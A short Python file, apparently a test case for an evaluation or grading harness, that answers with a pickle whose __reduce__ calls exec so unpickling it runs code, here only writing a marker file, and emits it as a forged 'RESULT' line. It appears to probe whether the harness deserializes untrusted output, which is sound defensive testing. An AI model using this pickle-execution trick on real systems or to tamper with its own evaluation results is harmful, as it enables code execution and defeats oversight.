"""Answers with a pickle that runs a command in whoever opens it."""
# family: forged results

import base64
import os
import pickle
import sys

from attack import attempted, facts, send_bytes


class Payload:
    def __reduce__(self):
        return exec, (f"open({facts['folder'] + '/unpickled'!r}, 'w').write('here')",)


def algorithm(question):
    payload = pickle.dumps((0.0, Payload(), 42))
    attempted()
    try:
        os.write(1, b"RESULT " + base64.b64encode(payload) + b"\n")
    except OSError:
        send_bytes(payload)
    if "selftaught_guest.wire" in sys.modules:
        return Payload()
    os._exit(0)
